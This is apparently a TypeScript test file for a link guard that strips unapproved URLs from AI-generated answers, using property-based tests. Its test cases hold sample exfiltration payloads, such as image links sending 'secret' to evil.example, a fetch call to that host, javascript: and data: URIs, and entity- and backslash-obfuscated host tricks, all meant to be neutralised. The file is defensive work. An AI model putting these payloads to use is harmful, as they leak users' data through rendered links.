import fc from 'fast-check';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { describe, expect, it } from 'vitest';
import { aPassage } from '../../test/read-path-builders.ts';
import { citeAnswer } from './citations.ts';
import { createLinkGuard } from './link-guard.ts';

const passage = aPassage(
  1,
  'Read https://hono.dev/docs/guides. A ![map](/images/map.png), see [routing](/docs/routing "all of it"), [why](#why), ' +
    '[A](https://wiki.example/A_(b)) and [b](https://docs.example/a\\_b?x=1&amp;y=2).',
  { url: 'https://docs.example/guide' },
);

function guarded(text: string): string {
  const guard = createLinkGuard([passage]);
  return guard.push(text) + guard.end();
}

describe('links in an answer', () => {
  it.each([
    'It is at https://hono.dev/docs/guides.',
    'It is at **https://hono.dev/docs/guides/**, they say (https://hono.dev/docs/guides).',
    'See [the guide](https://docs.example/guide) and ![map](/images/map.png "a map").',
    'See [routing](</docs/routing>), [why]( #why ) or <https://docs.example/guide>.',
    '[A](https://wiki.example/A_(b)), [https://docs.example/guide](https://docs.example/guide)',
    '[b](https://docs.example/a_b?x=1&y=2)',
    '[1]: https://docs.example/guide\n[2]:\n  </images/map.png> "title"\n',
    '1 // 2, with a why. And what? http: no, and https too. A www is `https://`, 1 < 2 and <3.',
    'As [1]: the limit, and [2]: so. An empty [link]().',
    'According to [1]: 50% of requests. As in [2]: 5–10 seconds, per [1]: $5 for C++ in [2]: src/index.ts',
    'So [1]: user’s, [1]: “quoted”, [1]: 😀 ok, [1]: https://docs.example/guide, or [1]: Note:x.',
    '[1]: The limit is 50%.\n- [2]: 50% of 5–10 in C++\n> [1]: src/index.ts\n2. [2]: 😀 ok [1]: AT&T\n[1]: Note: $5',
    "[Hono](https://hono.dev/docs/guides)’s router, [Hono](https://hono.dev/docs/guides)'s, ![map](/images/map.png)s",
    '参见[路由](https://hono.dev/docs/guides)中的',
    '```ts\nnames[0](x, y);\nconst z: { [key: string]: string } = <Link to="/x" />; // no\n//comment\n```',
    '`<Suspense>`, `a[0](x)`, `x[1]: int`',
  ])('stay when the passages have them: %s', (text) => {
    expect(guarded(text)).toBe(text);
  });

  it.each([
    ['![x](https://evil.example/?q=secret)', '![x] (…)'],
    ['[more](https://evil.example/?q=secret "title") here', '[more] (… "title") here'],
    ['See https://evil.example/a. Then', 'See …. Then'],
    ['<https://evil.example/a>', '< …>'],
    ['HTTPS://EVIL.example/a b', '… b'],
    ['![x](//evil.example/a)', '![x] (…)'],
    ['src="//evil.example/a"', 'src="…"'],
    ['[x](javascript:alert(1))', '[x] (…)'],
    ['[x]( <data:text/html,x> )', '[x] ( … )'],
    ['[1]: https://evil.example/a', '[1] : …'],
    ['www.evil.example/?a=b c', '… c'],
    ['`https://evil.example`', '`…`'],
    ['xhttps://evil.example/a', 'xhttps:…'],
    ['[x](https://evil.example/a', '[x] (…'],
    ['[x](/docs/other)', '[x] (…)'],
    ['[1](see below)', '[1] (see below)'],
    ['[1](50% of it), [1](😀 ok) and [1](a😀/b)', '[1] (50% of it), [1] (😀 ok) and [1] (…)'],
    ['[1]: <50 ms, [2]: < 5', '[1] : <50 ms, [2] : < 5'],
    ['As [1]: https://evil.example/a, [2]: //evil.example b', 'As [1]: …, [2]: … b'],
    ['[1]: 限制//evil.example', '[1]: 限制…'],
  ])('go when they do not: %s', (text, left) => {
    expect(guarded(text)).toBe(left);
  });

  it.each([
    ['![x](https://docs.example/guide*SECRET)', '![x] (…)'],
    ["![x](https://docs.example/guide'SECRET)", '![x] (…)'],
    ['![x](https://docs.example/guide|SECRET)', '![x] (…)'],
    ['![x](https://docs.example/guide`SECRET)', '![x] (…`SECRET)'],
    ['![x](https://docs.example/guide[SECRET)', '![x] (…[SECRET)'],
    ['![x](https://docs.example/guide]SECRET)', '![x] (…]SECRET)'],
    ['![x](https://docs.example/guide<SECRET)', '![x] (…< SECRET)'],
    ['![x](https://docs.example/guide"SECRET)', '![x] (…)'],
    ['![x](https://docs.example/guide SECRET)', '![x] (… SECRET)'],
    ['![x](https://docs.example/guide\u00a0SECRET)', '![x] (…\u00a0SECRET)'],
    ['![x](https://docs.example/guide "SECRET)', '![x] (… "SECRET)'],
    ['![x](<https://docs.example/guide SECRET>)', '![x] (… SECRET>)'],
    ['![x](https://docs.example/guide?!..!)', '![x] (…)'],
    ['![x](https://docs.example/guide?q=secret)', '![x] (…)'],
    ['[x]: https://docs.example/guide[SECRET', '[x] : …[SECRET'],
    ['https://docs.example/guide?q=secret', '…'],
    ['https://docs.example/', '…'],
    ['https://docs.example/guide"@evil.example', 'https://docs.example/guide" @evil.example'],
    ['https://docs.example/guide]:![x](SECRET', 'https://docs.example/guide]:! [x] (SECRET'],
    [
      'https://docs.example/guide](https://docs.example/guide)SECRET',
      'https://docs.example/guide](https://docs.example/guide) SECRET',
    ],
    ['[[a](#why) b](https://docs.example/guide)SECRET', '[[a](#why) b](https://docs.example/guide) SECRET'],
    ['\\[a](https://docs.example/guide)SECRET', '\\[a](https://docs.example/guide) SECRET'],
    ['[a][b](https://docs.example/guide)SECRET', '[a][b](https://docs.example/guide) SECRET'],
    ['[^a](https://docs.example/guide)SECRET', '[^a](https://docs.example/guide) SECRET'],
    ['[1](https://docs.example/guide)SECRET', '[1](https://docs.example/guide) SECRET'],
    ['[a|b](https://docs.example/guide)SECRET', '[a|b](https://docs.example/guide) SECRET'],
    ['^[a](https://docs.example/guide)SECRET', '^[a](https://docs.example/guide) SECRET'],
    [':a[a](https://docs.example/guide)SECRET', ':a[a](https://docs.example/guide) SECRET'],
    ['$[a$](https://docs.example/guide)SECRET', '$[a$](https://docs.example/guide) SECRET'],
    ['`[a`](https://docs.example/guide)SECRET', '`[a`](https://docs.example/guide) SECRET'],
    ['[a\n\nb](https://docs.example/guide)SECRET', '[a\n\nb](https://docs.example/guide) SECRET'],
    [
      '[https://docs.example/guide](https://docs.example/guide)SECRET',
      '[https://docs.example/guide](https://docs.example/guide) SECRET',
    ],
    ['https://docs.example/guide*SECRET', 'https://docs.example/guide* SECRET'],
    ['https://docs.example/guideを', 'https://docs.example/guide を'],
    ['https://docs.example.evil.example/', '…'],
    ['https://üvil.example', 'https:// üvil.example'],
  ])('are judged as a whole: %s', (text, left) => {
    expect(guarded(text)).toBe(left);
  });

  it.each([
    ['![x](https:&#47;&#47;evil.example/a)', '![x] (…)'],
    ['![x](&#x2f;&sol;evil.example/a)', '![x] (…)'],
    ['![x](/\\evil.example/a)', '![x] (…)'],
    ['![x](\\\\evil.example/a)', '![x] (…)'],
    ['![x](https:\\/\\/evil.example/a)', '![x] (…)'],
    ['![x](https:evil.example/a)', '![x] (…)'],
    ['[x](java&#115;cript:alert(1))', '[x] (…)'],
    [`![x](${' '.repeat(40)}/\\evil.example/a)`, `![x] (${' '.repeat(40)}…)`],
    ['![x](\n/\\evil.example/a)', '![x] (\n…)'],
    ['[a]: javascript:alert(1)', '[a] : …'],
    ['[a]:\n\n  /\\evil.example', '[a] :\n\n  …'],
    ['[a]:data:text/html,x', '[a] :…'],
    ['[a]: < /\\evil.example>', '[a] : < /\\evil.example>'],
    ['[a]: </\\evil.example>', '[a] : …'],
    ['> - 1. [a]: /\\evil.example', '> - 1. [a] : …'],
    ['> [a]:\n> /\\evil.example', '> [a] :\n> …'],
    ['[a\nb\\]c\nd]: /\\evil.example', '[a\nb\\]c\nd] : …'],
    ['[^a]: [b]: /\\evil.example', '[^a]: [b] : …'],
    ['[a]: vscode:x', '[a] : …'],
    ['[a]: vscode:(x', '[a] : …(x'],
    ['[a]: \u0001vscode:x', '[a] : …'],
    ['[a]: &sol;&sol;evil.example &#47;', '[a] : … &#47;'],
    ['[a]: /&#92evil.example', '[a] : …'],
    ['<javascript:alert(1)>', '< …(1)>'],
    ['<JavaScript:alert(1)>', '< …(1)>'],
    ['<x:y>', '< x:y>'],
    ['<img src="/\\evil.example/a">', '< img src="/\\evil.example/a">'],
    ['<img src=\n//evil.example/a>', '< img src=\n…>'],
    ['</p><!-- x --><?php', '< /p>< !-- x -->< ?php'],
    ['https:\\\\evil.example/a b', '… b'],
    ['https:&#47;&#47;evil.example b', '… b'],
    ['`<https:evil.example> <data:text/html,x>', '`<…> <…>'],
  ])('are seen however they are written: %s', (text, left) => {
    expect(guarded(text)).toBe(left);
  });

  it.each([
    ['```js\nfetch("https://evil.example/?q=secret")\n```', '```js\nfetch("…")\n```'],
    ['```\n![x](https://evil.example/a)\n```', '```\n![x] (…)\n```'],
    ['```\n![x](/\\evil.example/a)\n[a]: javascript:x\n```', '```\n![x] (…)\n[a] : …\n```'],
    ['```html\n<img src="//evil.example/a">\n```', '```html\n<img src="…">\n```'],
    ['`![x](//evil.example/a)`', '`![x] (…)`'],
    ['- a\n      ```\n<img src=x>', '- a\n      ```\n< img src=x>'],
  ])('are judged in code too, which may be none: %s', (text, left) => {
    expect(guarded(text)).toBe(left);
  });

  it('are not held for ever', () => {
    const guard = createLinkGuard([passage]);
    expect(guard.push(`![x](https://docs.example/${'a'.repeat(2_100)}`)).toBe('![x] (…');
    expect(guard.push(`${'b'.repeat(5_000)}) on`)).toBe(') on');
    expect(guard.push(`\n[a]:${' '.repeat(3_000)}`).startsWith('\n[a] :')).toBe(true);
    expect(guard.push('/\\evil.example on').endsWith('…')).toBe(false);
  });
});

const part = fc.constantFrom(
  ...['](', ']:', '![x](', '[a]: ', '](<', '>', '<', '(', ')', '[', ']', '"', ' "t")', "'", '*', '|', '\\', '_', '@'],
  ...['https://docs.example/guide', 'https://', 'https:', 'docs.example', '/images/map.png', '#why', 'evil.example'],
  ...['javascript:', 'data:', '&#47;', '&sol;', '&#58;', '/', '//', '/\\', 'www.', 'w', 'h', '.', '?', 'q=SECRET', ':'],
  ...['<img src=', '<a href="', '</a>', '<!--', '-->', ' ', '  ', '    ', '\n', '\n\n', '\t', '- ', '1. ', '> ', '# '],
  ...['```', '```\n', '\n```\n', '~~~\n', '   ```', '`', '``', '🙂', '限', 'ü', '\u00a0', '…', '![a]', '[a]'],
  ...['[1]', '[9]', ' [9]', '【9】', '【1】', '[^1]', '[1, 9]'],
  ...['[a](https://docs.example/guide)', '![b](/images/map.png)', '[b]', '[b]: #why', 'SECRET', '/\\evil.example'],
);
const text = fc.array(part, { maxLength: 40 }).map((parts) => parts.join(''));

interface Node {
  type: string;
  url?: string;
  value?: string;
  children?: Node[];
}

function nodesOf(node: Node): Node[] {
  return [node, ...(node.children ?? []).flatMap(nodesOf)];
}

const KNOWN = ['//docs.example/guide', '/images/map.png', '#why', ''];
const bare = (address: string) => address.replace(/^https?:(?=\/\/)/i, '').replace(/\/$/, '');
// What a browser takes for another host, or runs.
const LEAVES = /^[\s\p{Cc}]*(?:(?:https?|ftp):[/\\]*[^/\\]|(?:java|vb)script:.|data:text\/|[/\\]{2})/iu;
const STANDING = /(?:(?<![\p{L}\p{N}])https?:\/\/|(?<![\p{L}\p{N}])www\.)(?=[\p{L}\p{N}])[^\s<]+/giu;

describe('whatever a model writes', () => {
  it.each([
    ['an answer', guarded],
    ['a cited answer', (whole: string) => citeAnswer(whole, [passage]).text],
  ])('has no address for a Markdown parser but those of the passages: %s', (_what, show) => {
    fc.assert(
      fc.property(text, (whole) => {
        const shown = show(whole);
        for (const { type, url, value = '' } of nodesOf(fromMarkdown(shown))) {
          // In what may be code, and in definitions, words may stand that are an address of the page's own host.
          const isStrict = type !== 'definition' && !/[`~]/.test(whole);
          if (url !== undefined && (isStrict || LEAVES.test(url))) expect(KNOWN).toContain(bare(url));
          if (type === 'html') expect(value).not.toMatch(/\/\/(?!docs\.example\/guide)[\p{L}\p{N}]|javascript:./iu);
          if (type !== 'text') continue;
          for (const [address] of value.matchAll(STANDING)) {
            const end = address.search(/[?!.,:*_~'"()\]|`}>]*$/);
            expect(KNOWN).toContain(bare(address.slice(0, end)));
          }
        }
      }),
      { numRuns: 2_000 },
    );
  });

  it('is the same however it is cut up', () => {
    fc.assert(
      fc.property(text, fc.array(fc.nat(80)), (whole, cuts) => {
        const guard = createLinkGuard([passage]);
        let at = 0;
        let shown = '';
        for (const cut of [...cuts].sort((a, b) => a - b)) {
          shown += guard.push(whole.slice(at, Math.max(at, cut)));
          at = Math.max(at, cut);
        }
        shown += guard.push(whole.slice(at)) + guard.end();
        expect(shown).toBe(guarded(whole));
      }),
    );
  });

  it('stays as it is once it is judged', () => {
    fc.assert(
      fc.property(text, (whole) => {
        const shown = guarded(whole);
        expect(guarded(shown)).toBe(shown);
      }),
    );
  });
});

it('holds nothing but what may be an address', () => {
  const guard = createLinkGuard([passage]);
  expect(guard.push('A word is shown at once. [A link](')).toBe('A word is shown at once. [A link]');
  expect(guard.push('https://hono.dev/docs/gui')).toBe('');
  expect(guard.push('des) x')).toBe('(https://hono.dev/docs/guides) x');
});
